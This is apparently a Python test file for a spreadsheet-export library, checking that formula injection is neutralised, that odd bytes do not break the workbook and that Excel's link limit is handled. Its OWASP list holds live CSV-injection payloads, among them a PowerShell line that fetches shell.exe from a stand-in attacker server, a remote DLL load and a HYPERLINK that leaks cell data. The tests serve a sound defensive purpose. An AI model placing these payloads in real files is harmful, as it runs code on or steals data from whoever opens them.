"""Issue 15: workbook text is never run as a formula, never breaks the file, and a
sheet past Excel's link limit still names every row's paper."""

import logging
import warnings
import zipfile
from datetime import date, datetime
from pathlib import Path
from xml.dom.minidom import parseString

import openpyxl
import pandas as pd

from planrecon.outputs import safebook, sheets
from planrecon.outputs.cells import Column
from planrecon.outputs.csvs import write_csv
from planrecon.outputs.safebook import SafeWorkbook
from planrecon.outputs.safety import formula_like, neutralise
from planrecon.outputs.sheets import Sheet, SheetWriter, SourceLinks

OWASP = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for more")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "+thespanishinquisition(cmd|'/c calc.exe'!A",
    "-2+3+cmd|' /C calc'!A0",
    "-3+3+cmd|' /C calc'!D2",
    "+2+5+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "- cmd|' /C calc'!A0",
]
"""OWASP's CSV injection examples and the usual variants on them."""
HARMLESS = ["-264", "+44 20 7946 0000", "-3.5%", "-", "2014-09-30", "Review the plan"]
COLUMNS = [Column("action", "Action"), Column("source_file", "Paper", "source",
                                               compare="source_locator"),
           Column("source_locator", "Where")]


def _sheet(tmp_path: Path, frame: pd.DataFrame, name: str = "Data") -> Path:
    path = tmp_path / "book.xlsx"
    writer = SheetWriter(path, date(2014, 9, 30), SourceLinks(tmp_path / "inbox", tmp_path / "out"),
                         datetime(2014, 9, 30))
    writer.frame(Sheet(name, "A note.", COLUMNS), frame)
    writer.close()
    return path


def _frame(actions: list[str], source: str = "plans/q1.xlsx") -> pd.DataFrame:
    return pd.DataFrame({"action": actions, "source_file": [source] * len(actions),
                         "source_locator": [f"Sheet1!A{n}" for n in range(len(actions))]})


def test_owasp_payloads_are_text_in_the_workbook_and_in_csv(tmp_path):
    path = _sheet(tmp_path, _frame(OWASP + HARMLESS))
    ws = openpyxl.load_workbook(path)["Data"]
    cells = {ws.cell(r, 1).value: ws.cell(r, 1) for r in range(3, ws.max_row + 1)}
    for payload in OWASP:
        cell = cells[payload.replace("\r", "_x000D_")]  # as printed (openpyxl leaves Excel's
        # escape of a carriage return as it is)
        assert cell.data_type == "s" and cell.quotePrefix, payload
    for text in HARMLESS:
        assert not cells[text].quotePrefix, text
    with zipfile.ZipFile(path) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
    write_csv(_frame(OWASP + HARMLESS), ["action"], tmp_path / "a.csv")
    written = pd.read_csv(tmp_path / "a.csv", keep_default_na=False, dtype=str)["action"]
    assert list(written) == [neutralise(t).replace("\r", "\n") for t in OWASP + HARMLESS]
    assert all(t.startswith("'") for t in written[:len(OWASP)])
    assert list(written[len(OWASP):]) == HARMLESS


def test_one_rule_says_what_could_run():
    assert all(formula_like(t) for t in OWASP)
    assert not any(formula_like(t) for t in HARMLESS)


def test_control_characters_and_stray_bytes_never_break_the_workbook(tmp_path):
    """An ESC in a file name, and a name that is not UTF-8 (left by a Windows zip)."""
    odd = ["plans/q1\x1b[31m.xlsx", "plans/caf\udce9 plan.xlsx"]
    frame = pd.concat([_frame(["Act \x07now", "=1+\x0b1"], source) for source in odd])
    path = _sheet(tmp_path, frame)
    with zipfile.ZipFile(path) as z:
        for member in z.namelist():
            if member.endswith((".xml", ".rels")):
                parseString(z.read(member))  # raises on invalid XML
    ws = openpyxl.load_workbook(path)["Data"]
    papers = [ws.cell(r, 2).value for r in range(3, ws.max_row + 1)]
    assert papers == ["q1[31m.xlsx"] * 2 + ["caf\\xe9 plan.xlsx"] * 2
    assert ws.cell(3, 1).value == "Act now"
    assert ws.cell(4, 1).value == "=1+1" and ws.cell(4, 1).quotePrefix


def test_past_the_link_limit_rows_name_their_paper_as_text_said_once(tmp_path, monkeypatch,
                                                                    caplog):
    monkeypatch.setattr(sheets, "LINK_LIMIT", 4)
    monkeypatch.setattr(safebook, "LINK_LIMIT", 4)
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # xlsxwriter's own warning would fail here
        with caplog.at_level(logging.WARNING, logger="planrecon"):
            path = _sheet(tmp_path, _frame([f"Action {n}" for n in range(10)]))
    ws = openpyxl.load_workbook(path)["Data"]
    rows = range(3, ws.max_row + 1)
    assert [bool(ws.cell(r, 2).hyperlink) for r in rows] == [True] * 4 + [False] * 6
    assert [ws.cell(r, 2).value for r in rows] == ["q1.xlsx"] * 4 + ["plans/q1.xlsx"] * 6
    assert [ws.cell(r, 3).value for r in rows] == [f"Sheet1!A{n}" for n in range(10)]
    said = [r for r in caplog.records if "links on one sheet" in r.getMessage()]
    assert len(said) == 1 and "row 7" in said[0].getMessage()
    assert "from row 7 on" in ws.cell(1, 1).value


def test_the_safety_net_writes_text_not_an_empty_cell(tmp_path, monkeypatch):
    """A link past the limit written by any sheet (the Summary's counts) keeps its text."""
    monkeypatch.setattr(safebook, "LINK_LIMIT", 2)
    path = tmp_path / "net.xlsx"
    wb = SafeWorkbook(str(path))
    ws = wb.add_worksheet("S")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        for r in range(4):
            ws.write_url(r, 0, "internal:'S'!A1", string=f"count {r}")
    wb.close()
    sheet = openpyxl.load_workbook(path)["S"]
    assert [sheet.cell(r, 1).value for r in range(1, 5)] == [f"count {r}" for r in range(4)]
    assert [bool(sheet.cell(r, 1).hyperlink) for r in range(1, 5)] == [True, True, False, False]
